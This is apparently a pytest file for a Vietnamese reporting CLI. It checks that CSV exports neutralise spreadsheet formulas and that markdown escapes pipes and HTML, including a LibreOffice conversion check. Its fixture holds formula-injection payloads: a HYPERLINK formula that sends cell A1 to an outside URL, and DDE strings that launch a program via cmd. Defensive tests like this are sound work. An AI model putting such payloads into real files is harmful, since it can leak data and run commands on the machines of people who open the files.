"""CSV and markdown we write (issue 17.4, 12): no cell a spreadsheet runs as a formula, UTF-8 with a byte
order mark so Excel on Windows reads the Vietnamese, markdown that stays one table and shows HTML as text."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from support.cli import rec, run_cli

AS_OF = "2026-11-27"
FORMULAS = {
    "1": "=HYPERLINK(\"http://x.vn/?\"&A1,\"Bấm\")",
    "2": "=1+1",
    "3": "+cmd|' /C calc'!A0",
    "4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "5": "-1+1",
    "7": "\t=1+1",
}


@pytest.fixture
def formulas(tracker: Path) -> Path:
    """Evidence that a spreadsheet would run, recorded as a clerk may type it: text is text."""
    for task, evidence in FORMULAS.items():
        rec(tracker, task, "STP", "--status", "doing", "--period", "2026", "--evidence", evidence,
            "--note", "a | b <b>đậm</b> & c", "--by", "=Người ghi", "--as-of", AS_OF)
    return tracker


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff"), "the byte order mark Excel on Windows needs"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def evidence_cells(rows: list[list[str]], column: str) -> dict[str, str]:
    header = rows[0]
    return {row[header.index("NV")]: row[header.index(column)] for row in rows[1:]
            if len(row) == len(header) and row[header.index("NV")] in FORMULAS}


EXPECTED = {task: "'" + text.strip() for task, text in FORMULAS.items()}  # `record` trims the tab


def test_status_csv_neutralises_formulas(formulas: Path) -> None:
    result = run_cli("status", "--unit", "STP", "--period", "2026", "--as-of", AS_OF, "--format", "csv",
                     "--data", str(formulas))
    assert result.exit_code == 0, result.stderr
    assert evidence_cells(read_csv(result.stdout), "Căn cứ") == EXPECTED


def test_report_file_csv_neutralises_formulas(formulas: Path, tmp_path: Path) -> None:
    target = tmp_path / "bao-cao.csv"
    result = run_cli("report", "--unit", "STP", "--period", "2026", "--as-of", AS_OF, "-o", str(target),
                     "--data", str(formulas))
    assert result.exit_code == 0, result.stderr
    text = target.read_bytes().decode("utf-8")
    cells = [cell for row in read_csv(text) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert set(EXPECTED.values()) <= set(cells)


def test_log_csv_neutralises_formulas(formulas: Path) -> None:
    result = run_cli("log", "--format", "csv", "--data", str(formulas))
    assert result.exit_code == 0, result.stderr
    cells = [cell for row in read_csv(result.stdout) for cell in row]
    assert "'=Người ghi" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


def test_markdown_escapes_pipes_and_html(formulas: Path) -> None:
    result = run_cli("status", "--unit", "STP", "--period", "2026", "--as-of", AS_OF, "--format", "markdown",
                     "--data", str(formulas))
    rows = [line for line in result.stdout.splitlines() if line.startswith("| 1 ")]
    assert len(rows) == 1
    assert "&quot;" not in rows[0] and "=HYPERLINK(\"http://x.vn/?\"&amp;A1,\"Bấm\")" in rows[0]
    # Every row has as many cells as the header: no `|` of the data split one.
    header = next(line for line in result.stdout.splitlines() if line.startswith("| NV"))
    assert rows[0].replace("\\|", "").count("|") == header.count("|")


def test_markdown_note_keeps_one_row(formulas: Path) -> None:
    from kehoach.render.rows import Column, Table
    from kehoach.render.text import render

    table = Table("Ghi chú | <i>", [Column("note", "Ghi chú")], [{"note": "a | b <b>đậm</b> & c\nhai"}])
    assert render([table], "markdown").splitlines() == [
        "## Ghi chú \\| &lt;i&gt;", "",
        "| Ghi chú                                      |",
        "|:---------------------------------------------|",
        "| a \\| b &lt;b&gt;đậm&lt;/b&gt; &amp; c<br>hai |"]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) không có trên máy này")
def test_libreoffice_makes_no_formula_of_our_csv(formulas: Path, tmp_path: Path) -> None:
    """The real spreadsheet: LibreOffice opens the CSV status writes and keeps every cell as text."""
    from openpyxl import load_workbook

    result = run_cli("status", "--unit", "STP", "--period", "2026", "--as-of", AS_OF, "--format", "csv",
                     "--data", str(formulas))
    source = tmp_path / "trang-thai.csv"
    source.write_text(result.stdout, encoding="utf-8")
    profile = tmp_path / "lo-profile"
    # 44,34,76: comma, double quote, UTF-8 (what Excel takes from the byte order mark).
    command = ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--infilter=CSV:44,34,76",
               "--convert-to", "xlsx", "--outdir", str(tmp_path), str(source)]
    subprocess.run(command, check=True, capture_output=True, timeout=120,
                   env={**os.environ, "HOME": str(tmp_path)})
    sheet = load_workbook(tmp_path / "trang-thai.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert sheet["A1"].value == "NV" and sheet["B2"].value == "Sở Tư pháp"  # read as UTF-8
    values = {str(c.value) for c in cells}
    assert {"=1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0"} <= {v.lstrip("'") for v in values}
